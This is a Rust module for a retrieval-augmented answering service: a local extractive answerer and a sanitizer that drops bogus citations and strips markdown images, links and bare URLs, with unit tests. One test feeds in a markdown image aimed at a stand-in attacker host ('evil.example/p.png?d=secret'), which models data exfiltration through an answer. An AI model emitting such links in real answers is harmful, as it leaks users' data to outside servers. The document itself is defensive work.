//! The answering port, its local extractive adapter, and the policing every answer goes through.
//!
//! An [`Answerer`] gets the question and the retrieved sources as numbered labels (`S1`, `S2`, ...)
//! and returns a [`Draft`]: text that cites labels, plus optional quotes. The server, not the
//! model, decides what reaches the caller ([`police`]): citations of labels it did not hand out,
//! or quoting text their source does not contain, are dropped (and counted); markdown images and
//! links to outside hosts are removed from the text.

use std::future::Future;
use std::pin::Pin;

use super::embed::LocalEmbedder;

/// One source handed to the answerer.
#[derive(Clone, Debug)]
pub struct Source {
    /// Its label (`S1`...).
    pub label: String,
    /// Its text (one chunk).
    pub text: String,
}

/// A citation as the answerer made it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct DraftCitation {
    /// The label cited.
    pub label: String,
    /// Text the answerer says it quotes from that source, if any.
    pub quote: Option<String>,
}

/// An answer before policing.
#[derive(Clone, Debug)]
pub struct Draft {
    /// The answer, citing labels inline as `[S1]`.
    pub text: String,
    /// Citations (inline labels in `text` count too).
    pub citations: Vec<DraftCitation>,
    /// The model's name.
    pub model: String,
}

/// Why no answer could be had.
#[derive(Debug, thiserror::Error)]
pub enum AnswerError {
    /// Worth retrying later.
    #[error("answering temporarily unavailable: {0}")]
    Retryable(String),
    /// Will not succeed as asked.
    #[error("answering failed: {0}")]
    Fatal(String),
}

/// A boxed answer future.
pub type AnswerFuture<'a> = Pin<Box<dyn Future<Output = Result<Draft, AnswerError>> + Send + 'a>>;

/// Writes an answer from sources.
pub trait Answerer: Send + Sync + std::fmt::Debug {
    /// The model's name.
    fn model(&self) -> &str;
    /// Answers `question` from `sources` only.
    fn answer<'a>(&'a self, question: &'a str, sources: &'a [Source]) -> AnswerFuture<'a>;
}

/// What [`police`] let through.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Policed {
    /// The cleaned text.
    pub text: String,
    /// Labels cited, in first-cited order, each once.
    pub labels: Vec<String>,
    /// Citations dropped (unknown label, or a quote the source does not contain).
    pub dropped: usize,
}

/// The answer when the sources do not support one.
pub const NO_ANSWER: &str = "I could not find an answer to that in your data.";

/// Keeps only citations of handed-out labels whose quotes (if any) are in their source, removes
/// the markers of dropped ones, and strips markdown images and links to outside hosts.
pub fn police(draft: &Draft, sources: &[Source]) -> Policed {
    let source = |label: &str| sources.iter().find(|s| s.label == label);
    let mut cited: Vec<(String, Option<String>)> = draft
        .citations
        .iter()
        .map(|c| (c.label.clone(), c.quote.clone()))
        .collect();
    for label in inline_labels(&draft.text) {
        if !cited.iter().any(|(l, _)| *l == label) {
            cited.push((label, None));
        }
    }
    let mut labels = Vec::new();
    let mut rejected = Vec::new();
    for (label, quote) in cited {
        let ok = source(&label).is_some_and(|s| {
            quote
                .as_deref()
                .is_none_or(|q| normalize(&s.text).contains(&normalize(q)))
        });
        if ok {
            if !labels.contains(&label) {
                labels.push(label);
            }
        } else {
            rejected.push(label);
        }
    }
    let mut text = strip_outside_links(&draft.text);
    for label in &rejected {
        if !labels.contains(label) {
            text = text.replace(&format!("[{label}]"), "");
        }
    }
    Policed {
        text: text.trim().to_owned(),
        labels,
        dropped: rejected.len(),
    }
}

fn normalize(s: &str) -> String {
    s.split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
        .to_lowercase()
}

/// `[S1]`, `[S12]` markers in order.
fn inline_labels(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = text;
    while let Some(start) = rest.find("[S") {
        let tail = &rest[start + 2..];
        let digits: String = tail.chars().take_while(char::is_ascii_digit).collect();
        if !digits.is_empty() && tail[digits.len()..].starts_with(']') {
            out.push(format!("S{digits}"));
        }
        rest = &rest[start + 2..];
    }
    out
}

/// Removes markdown images entirely, turns links into their text, and removes bare URLs: an
/// answer must not make the caller's browser fetch from, or send them to, anyone's server.
fn strip_outside_links(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let chars: Vec<char> = text.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        let image = chars[i] == '!' && chars.get(i + 1) == Some(&'[');
        if chars[i] == '[' || image {
            let open = if image { i + 1 } else { i };
            if let Some((label_end, url_end)) = markdown_link(&chars, open) {
                if !image {
                    out.extend(&chars[open + 1..label_end]);
                }
                i = url_end + 1;
                continue;
            }
        }
        out.push(chars[i]);
        i += 1;
    }
    out.split(' ')
        .filter(|w| {
            let w = w.trim_matches(|c: char| !c.is_alphanumeric() && c != ':' && c != '/');
            !(w.starts_with("http://") || w.starts_with("https://") || w.starts_with("www."))
        })
        .collect::<Vec<_>>()
        .join(" ")
}

/// For `[label](url)` starting at `open`: the index of `]` and of `)`.
fn markdown_link(chars: &[char], open: usize) -> Option<(usize, usize)> {
    let label_end = (open + 1..chars.len()).find(|&j| chars[j] == ']')?;
    if chars.get(label_end + 1) != Some(&'(') {
        return None;
    }
    let url_end = (label_end + 2..chars.len()).find(|&j| chars[j] == ')')?;
    Some((label_end, url_end))
}

/// The local answerer: quotes the sentences of the sources closest to the question, with their
/// labels. It never writes anything the sources do not say. Named `local-extractive-v1`.
#[derive(Clone, Debug)]
pub struct LocalAnswerer {
    embedder: LocalEmbedder,
}

impl Default for LocalAnswerer {
    fn default() -> Self {
        Self {
            embedder: LocalEmbedder::new(256),
        }
    }
}

impl LocalAnswerer {
    /// The model name it reports.
    pub const MODEL: &'static str = "local-extractive-v1";
    /// Sentences less similar than this to the question are not quoted.
    const MIN_SIMILARITY: f32 = 0.15;
}

impl Answerer for LocalAnswerer {
    fn model(&self) -> &str {
        Self::MODEL
    }

    fn answer<'a>(&'a self, question: &'a str, sources: &'a [Source]) -> AnswerFuture<'a> {
        Box::pin(async move {
            let q = self.embedder.vector(question);
            let mut scored: Vec<(f32, &str, &str)> = Vec::new();
            for s in sources {
                for sentence in s.text.split_inclusive(['.', '!', '?']) {
                    let sentence = sentence.trim();
                    if sentence.len() < 3 {
                        continue;
                    }
                    let v = self.embedder.vector(sentence);
                    let sim: f32 = q.iter().zip(&v).map(|(a, b)| a * b).sum();
                    scored.push((sim, sentence, s.label.as_str()));
                }
            }
            scored.sort_by(|a, b| b.0.total_cmp(&a.0));
            // The best sentences, each once; a sentence several sources share cites them all.
            let mut picked: Vec<(&str, Vec<&str>)> = Vec::new();
            for (sim, sentence, label) in &scored {
                if *sim < Self::MIN_SIMILARITY {
                    break;
                }
                let full = picked.len() >= 3;
                match picked
                    .iter_mut()
                    .find(|(s, _)| s.eq_ignore_ascii_case(sentence))
                {
                    Some((_, labels)) => labels.push(label),
                    None if !full => picked.push((sentence, vec![label])),
                    None => {}
                }
            }
            if picked.is_empty() {
                return Ok(Draft {
                    text: NO_ANSWER.to_owned(),
                    citations: Vec::new(),
                    model: Self::MODEL.to_owned(),
                });
            }
            let text = picked
                .iter()
                .map(|(sentence, labels)| {
                    let marks: String = labels.iter().map(|l| format!("[{l}]")).collect();
                    format!("\"{sentence}\" {marks}")
                })
                .collect::<Vec<_>>()
                .join(" ");
            let citations = picked
                .iter()
                .flat_map(|(sentence, labels)| {
                    labels.iter().map(|label| DraftCitation {
                        label: (*label).to_owned(),
                        quote: Some((*sentence).to_owned()),
                    })
                })
                .collect();
            Ok(Draft {
                text: format!("From your data: {text}"),
                citations,
                model: Self::MODEL.to_owned(),
            })
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sources() -> Vec<Source> {
        vec![
            Source {
                label: "S1".into(),
                text: "The Lisbon shipment was held by customs.".into(),
            },
            Source {
                label: "S2".into(),
                text: "Invoices are due in 30 days.".into(),
            },
        ]
    }

    #[test]
    fn unknown_labels_and_false_quotes_are_dropped() {
        let draft = Draft {
            text: "Customs held it [S1] [S7]. See [S2].".into(),
            citations: vec![
                DraftCitation {
                    label: "S2".into(),
                    quote: Some("due in 90 days".into()),
                },
                DraftCitation {
                    label: "S1".into(),
                    quote: Some("held by  CUSTOMS".into()),
                },
                DraftCitation {
                    label: "tenant-b:secret".into(),
                    quote: None,
                },
            ],
            model: "m".into(),
        };
        let p = police(&draft, &sources());
        assert_eq!(p.labels, vec!["S1"]);
        assert_eq!(p.dropped, 3, "S2 (false quote), tenant-b:secret, S7");
        assert_eq!(p.text, "Customs held it [S1] . See .");
    }

    #[test]
    fn images_and_outside_links_are_stripped() {
        let draft = Draft {
            text: "Done ![x](https://evil.example/p.png?d=secret) see [here](https://evil.example/a) or https://evil.example/b [S1]".into(),
            citations: vec![],
            model: "m".into(),
        };
        let p = police(&draft, &sources());
        assert!(!p.text.contains("evil"), "{}", p.text);
        assert!(p.text.contains("see here"));
        assert_eq!(p.labels, vec!["S1"]);
    }

    #[tokio::test]
    async fn the_local_answerer_quotes_sources_or_says_it_cannot_answer() {
        let a = LocalAnswerer::default();
        let d = a
            .answer("why was the Lisbon shipment held?", &sources())
            .await
            .unwrap_or_else(|e| panic!("{e}"));
        let p = police(&d, &sources());
        assert_eq!(p.dropped, 0);
        assert_eq!(p.labels[0], "S1");
        assert!(p.text.contains("held by customs"));
        let none = a
            .answer("what is the capital of Peru?", &[])
            .await
            .unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(none.text, NO_ANSWER);
    }
}
